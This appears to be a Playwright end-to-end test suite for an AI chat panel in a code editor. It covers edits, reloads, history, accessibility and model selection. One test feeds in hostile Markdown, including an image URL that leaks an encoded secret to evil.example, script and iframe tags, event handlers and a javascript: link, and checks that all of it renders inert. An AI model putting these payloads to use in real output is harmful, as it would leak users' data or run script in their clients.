import * as assert from 'node:assert/strict';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { answerInputBox, chatFrame, newChat, runCommand, sendRequest, workbench } from '../../host/workbench';
import { callTurn, planTurn, textTurn } from '../scenarios';

const HELLO = 'export function hello(name: string): string {\n  return "Hello " + name;\n}\n';

/** The proposal's diff editor with both sides drawn (the tab shows before its text does). */
async function diffDrawn(page: Page): Promise<void> {
  const diff = page.locator('.monaco-diff-editor');
  await diff.locator('.editor.original .view-line', { hasText: '"Hello " + name' }).first().waitFor({ timeout: 30_000 });
  await diff.locator('.editor.modified .view-line', { hasText: '`Hello ${name}`' }).first().waitFor({ timeout: 30_000 });
}

/** Hides the bottom panel (a terminal the in-host suites left open), so screenshots show the chat and the diff. */
async function hideBottomPanel(page: Page): Promise<void> {
  if (await page.locator('.part.panel.basepanel').isVisible()) await runCommand(page, 'View: Toggle Panel Visibility');
  await page.locator('.part.panel.basepanel').waitFor({ state: 'hidden', timeout: 10_000 });
}

/** A run that reads a file, streams Markdown, and proposes an edit that waits for approval. */
function editingRun(dir: string, request: string) {
  return [
    planTurn(
      [
        { id: '1', description: `Use template literals in ${dir}/hello.ts`, files: [`${dir}/hello.ts`] },
        { id: '2', description: 'Explain the change' },
      ],
      request,
    ),
    {
      chunks: [
        { text: '### Reading the file\n\nI will look at `hello.ts` first:\n\n' },
        { text: '- find the string concatenation\n- replace it with a template literal\n' },
        { functionCall: { name: 'read_file', args: { path: `${dir}/hello.ts` } }, thoughtSignature: 'sig-r' },
      ],
      chunkDelayMs: 60,
    },
    callTurn('edit_file', { path: `${dir}/hello.ts`, edits: [{ search: 'return "Hello " + name;', replace: 'return `Hello ${name}`;' }] }, 'sig-e'),
    textTurn(['Updated `hello` to use a template literal.']),
  ];
}

describe('the chat panel in the workbench', function () {
  this.timeout(180_000);
  let dir = '';

  before(() => {
    dir = join(workbench().workspace, 'ui');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'hello.ts'), HELLO);
  });

  after(() => rmSync(dir, { recursive: true, force: true }));

  it('runs a request typed into the panel: Markdown, tool card, change card, Accept, Stop', async () => {
    const { page, emulator } = workbench();
    const frame = chatFrame(page);
    await hideBottomPanel(page);
    await newChat(page);
    await frame.locator('[data-testid="new-chat"]').click();
    const slowAnswer = { chunks: Array.from({ length: 40 }, (_, i) => ({ text: `Part ${i} of a long explanation. ` })), chunkDelayMs: 250 };
    emulator.load({ name: 'panel-run', turns: [...editingRun('ui', 'template literals'), slowAnswer] });
    await sendRequest(page, 'Use template literals in ui/hello.ts');

    await frame.locator('[data-testid="assistant-text"] h3', { hasText: 'Reading the file' }).waitFor({ timeout: 30_000 });
    await frame.locator('[data-testid="tool-card"]', { hasText: 'hello.ts' }).first().waitFor();
    await frame.locator('[data-testid="plan-task"][data-task-id="1"][data-status="running"]').waitFor();
    const card = frame.locator('[data-testid="change-card"][data-status="proposed"]');
    await card.waitFor({ timeout: 30_000 });
    assert.match(await card.innerText(), /hello\.ts/);
    await page.locator('.tabs-container .tab', { hasText: 'hello.ts' }).first().waitFor();
    await diffDrawn(page);
    await hideBottomPanel(page);
    await workbench().screenshot('panel-dark');

    await card.locator('[data-testid="change-accept"]').click();
    await frame.locator('[data-testid="change-card"][data-status="applied"]').waitFor({ timeout: 30_000 });
    await frame.locator('[data-testid="plan-task"][data-task-id="1"][data-status="done"]').waitFor({ timeout: 60_000 });
    assert.match(readFileSync(join(dir, 'hello.ts'), 'utf8'), /return `Hello \$\{name\}`;/);

    await frame.locator('[data-testid="assistant-text"]', { hasText: 'Part 2 of' }).waitFor({ timeout: 30_000 });
    await frame.locator('[data-testid="stop"]').click();
    await frame.locator('[data-testid="run-end"][data-status="cancelled"]').waitFor({ timeout: 15_000 });
    assert.equal(await frame.locator('[data-testid="assistant-text"]', { hasText: 'Part 39 of' }).count(), 0);
  });

  it('comes back exactly as it was after a window reload', async () => {
    const wb = workbench();
    const before = await chatFrame(wb.page).locator('[data-testid="messages"]').innerText();
    await wb.reload();
    const frame = chatFrame(wb.page);
    await frame.locator('[data-testid="run-end"][data-status="cancelled"]').waitFor({ timeout: 60_000 });
    await frame.locator('[data-testid="change-card"][data-status="applied"]').waitFor();
    assert.equal(await frame.locator('[data-testid="messages"]').innerText(), before);
  });

  it('says plainly that a run was cut short by a window reload, and answers the next request', async () => {
    const wb = workbench();
    await newChat(wb.page);
    const slow = { chunks: Array.from({ length: 40 }, (_, i) => ({ text: `Step ${i} of a long answer. ` })), chunkDelayMs: 250 };
    wb.emulator.load({ name: 'reload-mid-run', turns: [planTurn([{ id: '1', description: 'Answer at length' }]), slow] });
    await sendRequest(wb.page, 'explain at length');
    await chatFrame(wb.page).locator('[data-testid="assistant-text"]', { hasText: 'Step 4 of' }).waitFor({ timeout: 30_000 });
    await wb.reload();
    const frame = chatFrame(wb.page);
    const end = frame.locator('[data-testid="run-end"][data-status="cancelled"]');
    await end.waitFor({ timeout: 60_000 });
    assert.match(await end.innerText(), /interrupted when the window reloaded/);
    // The chat is saved while it streams, so what was shown before the reload is still there.
    assert.match(await frame.locator('[data-testid="assistant-text"]').last().innerText(), /Step 0 of a long answer/);
    assert.equal(await frame.locator('[data-testid="stop"]').isVisible(), false, 'no run is shown as still going');
    wb.emulator.load({ name: 'after-reload', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Ready again.'])] });
    await sendRequest(wb.page, 'still there?');
    await frame.locator('[data-testid="assistant-text"]', { hasText: 'Ready again.' }).waitFor({ timeout: 30_000 });
  });

  it('opens a past chat from the history and continues it', async () => {
    const { page, emulator } = workbench();
    const frame = chatFrame(page);
    await frame.locator('[data-testid="new-chat"]').click();
    await frame.locator('[data-testid="assistant-text"]').first().waitFor({ state: 'detached' });
    await frame.locator('[data-testid="history"]').click();
    await frame.locator('[data-testid="history-item"]', { hasText: 'Use template literals' }).first().click();
    await frame.locator('[data-testid="change-card"][data-status="applied"]').waitFor();
    emulator.load({ name: 'continue', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Yes, the change is in place.'])] });
    await sendRequest(page, 'is it done?');
    await frame.locator('[data-testid="assistant-text"]', { hasText: 'Yes, the change is in place.' }).waitFor({ timeout: 30_000 });
    // The earlier turns are still above: the chat was continued, not replaced.
    assert.ok((await frame.locator('[data-testid="tool-card"]').count()) >= 2);
  });

  it('opens a workspace file, at its line, from a link in an answer', async () => {
    const { page, emulator } = workbench();
    await newChat(page);
    emulator.load({ name: 'link', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['It is in [math.ts, line 2](src/math.ts#L2).'])] });
    await sendRequest(page, 'where is the math?');
    await chatFrame(page).locator('[data-testid="assistant-text"] a', { hasText: 'math.ts, line 2' }).click();
    await page.locator('.tabs-container .tab', { hasText: 'math.ts' }).first().waitFor({ timeout: 15_000 });
    await page.locator('.statusbar-item', { hasText: 'Ln 2, Col 1' }).first().waitFor({ timeout: 15_000 });
    await runCommand(page, 'View: Close All Editors');
  });

  it('inserts a code block at the cursor, or into a new editor when none is open', async () => {
    const { page, emulator } = workbench();
    await runCommand(page, 'View: Close All Editors');
    await newChat(page);
    emulator.load({ name: 'insert', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Open [math.ts](src/math.ts#L1), then:\n\n```ts\nconst inserted = 42;\n```\n'])] });
    await sendRequest(page, 'give me a line');
    const frame = chatFrame(page);
    const insert = frame.locator('[data-action="insert-code"]').last();
    await insert.waitFor({ timeout: 30_000 });
    // No editor open: the code lands in a new untitled one.
    await insert.click();
    await page.locator('.tabs-container .tab', { hasText: 'Untitled' }).first().waitFor({ timeout: 15_000 });
    await page.locator('.monaco-editor .view-line', { hasText: 'const inserted = 42;' }).first().waitFor({ timeout: 15_000 });
    await runCommand(page, 'View: Revert and Close Editor');
    // With math.ts open at line 1, it goes in at the cursor.
    const mathPath = join(workbench().workspace, 'src', 'math.ts');
    const original = readFileSync(mathPath, 'utf8');
    try {
      await frame.locator('[data-testid="assistant-text"] a', { hasText: 'math.ts' }).last().click();
      await page.locator('.tabs-container .tab.active', { hasText: 'math.ts' }).waitFor({ timeout: 15_000 });
      await insert.click();
      await page.locator('.monaco-editor .view-line', { hasText: 'const inserted = 42;export function add' }).first().waitFor({ timeout: 15_000 });
      assert.equal(await page.locator('.tabs-container .tab', { hasText: 'Untitled' }).count(), 0, 'not another untitled editor');
    } finally {
      await runCommand(page, 'View: Revert and Close Editor');
      writeFileSync(mathPath, original);
    }
  });

  it('renders hostile Markdown inert: no remote images, scripts, frames, forms, handlers or javascript: links', async () => {
    const { page, emulator } = workbench();
    await newChat(page);
    const hostile = [
      '![status](https://evil.example/p.png?key=c2VjcmV0)',
      '<img src="https://evil.example/x.png" onerror="window.__pwned = 1">',
      '<script>window.__pwned = 2</script>',
      '<iframe src="https://evil.example/"></iframe>',
      '<form action="https://evil.example/"><input name="k"></form>',
      '[click me](javascript:window.__pwned=3)',
      '<a href="https://evil.example/" onclick="window.__pwned = 4">raw link</a> <kbd>Ctrl</kbd>',
    ].join('\n\n');
    emulator.load({ name: 'hostile-markdown', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn([hostile])] });
    await sendRequest(page, 'render this');
    const frame = chatFrame(page);
    await frame.locator('[data-testid="run-end"]').last().waitFor({ timeout: 30_000 });
    const answer = frame.locator('[data-testid="assistant-text"]').last();
    await answer.locator('a', { hasText: 'click me' }).click();
    const found = await answer.evaluate((el) => ({
      images: [...el.querySelectorAll('img')].map((i) => i.getAttribute('src')),
      active: el.querySelectorAll('script, iframe, form, input, object, embed, style').length,
      handlers: [...el.querySelectorAll('*')].flatMap((n) => [...n.attributes].map((a) => a.name).filter((a) => a.startsWith('on') || a === 'style')),
      hrefs: [...el.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? ''),
      pwned: (window as unknown as { __pwned?: number }).__pwned,
    }));
    assert.deepEqual(found.images, [], 'no <img> with a remote source');
    assert.equal(found.active, 0, 'no script, frame, form or input');
    assert.deepEqual(found.handlers, [], 'no event handlers or inline styles');
    assert.ok(found.hrefs.every((h) => !/^javascript:/i.test(h)), found.hrefs.join(', '));
    assert.equal(found.pwned, undefined, 'nothing ran');
    // The remote image is offered as a link to open (after the editor's own confirmation), not loaded.
    assert.ok(found.hrefs.some((h) => h.startsWith('https://evil.example/p.png')), found.hrefs.join(', '));
  });

  it('looks right in a light theme mid-run', async () => {
    const { page, emulator } = workbench();
    writeFileSync(join(dir, 'hello.ts'), HELLO);
    await workbench().setTheme('light');
    const frame = chatFrame(page);
    try {
      await frame.locator('[data-testid="new-chat"]').click();
      emulator.load({ name: 'light', turns: [...editingRun('ui', 'template literals'), textTurn(['Nothing changed, so nothing to explain.'])] });
      await sendRequest(page, 'Use template literals in ui/hello.ts');
      const card = frame.locator('[data-testid="change-card"][data-status="proposed"]');
      await card.waitFor({ timeout: 30_000 });
      await page.locator('.tabs-container .tab', { hasText: 'hello.ts' }).first().waitFor();
      await diffDrawn(page);
      await hideBottomPanel(page);
      await workbench().screenshot('panel-light');
      // Rejected from the diff editor's title bar this time, with a reason for the model.
      await page.locator('.editor-actions a.action-label[aria-label="Reject Proposed Change"]').click();
      await answerInputBox(page, 'keep the concatenation');
      const rejected = frame.locator('[data-testid="change-card"][data-status="rejected"]');
      await rejected.waitFor({ timeout: 30_000 });
      assert.match(await rejected.innerText(), /keep the concatenation/);
      assert.equal(readFileSync(join(dir, 'hello.ts'), 'utf8'), HELLO);
    } finally {
      await workbench().setTheme('dark');
    }
  });
});

describe('the chat panel for keyboard and screen-reader users', function () {
  this.timeout(60_000);

  it('names every visible control, and Tab walks from the header to the input', async () => {
    const { page, emulator } = workbench();
    await newChat(page);
    const frame = chatFrame(page);
    // A finished run, so its plan, code block buttons and end line are on the page too.
    emulator.load({ name: 'a11y', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['Here:\n\n```ts\nconst x = 1;\n```\n'])] });
    await sendRequest(page, 'show me code');
    await frame.locator('[data-testid="run-end"]').last().waitFor({ timeout: 30_000 });
    const unnamed = await frame.locator('body').evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('button, select, textarea, input, summary, a[href]')]
        .filter((el) => el.offsetParent !== null)
        .filter((el) => !(el.getAttribute('aria-label') || el.getAttribute('title') || el.textContent?.trim() || el.getAttribute('placeholder')))
        .map((el) => el.outerHTML.slice(0, 120)),
    );
    assert.deepEqual(unnamed, [], 'controls without an accessible name');
    await frame.locator('[data-testid="history"]').focus();
    const focused = () => frame.locator(':focus').evaluate((el) => el.getAttribute('data-testid') ?? el.tagName);
    await page.keyboard.press('Tab');
    assert.equal(await focused(), 'new-chat');
    let reached = false;
    for (let i = 0; i < 80 && !reached; i++) {
      await page.keyboard.press('Tab');
      reached = (await focused()) === 'input';
    }
    assert.ok(reached, 'Tab reaches the message input');
  });
});

describe('the model picker', function () {
  this.timeout(60_000);

  it('lists the API\'s models and sends the next request to the one picked', async () => {
    const { page, emulator } = workbench();
    await newChat(page);
    const picker = chatFrame(page).locator('[data-testid="model-picker"]');
    await picker.locator('option[value="gemini-2.5-pro"]').waitFor({ state: 'attached', timeout: 20_000 });
    await picker.selectOption('gemini-2.5-pro');
    try {
      emulator.load({ name: 'picked', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn(['From the picked model.'])] });
      // The pick is a settings write in the extension host; give it a moment to land.
      await page.waitForTimeout(1000);
      await sendRequest(page, 'which model?');
      await chatFrame(page).locator('[data-testid="assistant-text"]', { hasText: 'From the picked model.' }).waitFor({ timeout: 30_000 });
      const paths = emulator.requests.map((r) => r.path).filter((p) => p.includes('enerateContent'));
      assert.ok(paths.length > 0 && paths.every((p) => p.includes('/models/gemini-2.5-pro:')), paths.join(', '));
    } finally {
      await picker.selectOption('gemini-flash-latest');
    }
  });
});
